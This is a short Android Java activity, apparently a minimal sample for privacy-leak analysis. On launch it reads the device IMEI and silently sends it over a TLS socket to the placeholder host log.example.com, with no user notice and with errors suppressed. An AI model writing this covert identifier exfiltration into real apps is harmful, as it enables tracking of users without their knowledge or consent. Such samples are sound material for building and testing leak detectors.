package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import javax.net.ssl.SSLSocketFactory;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String imei = phone.getImei();
        new Thread() {
            @Override
            public void run() {
                send(imei);
            }
        }.start();
    }

    static void send(String line) {
        try {
            Socket socket = SSLSocketFactory.getDefault().createSocket("log.example.com", 443);
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            out.writeUTF(line);
            socket.close();
        } catch (IOException error) {
            return;
        }
    }
}
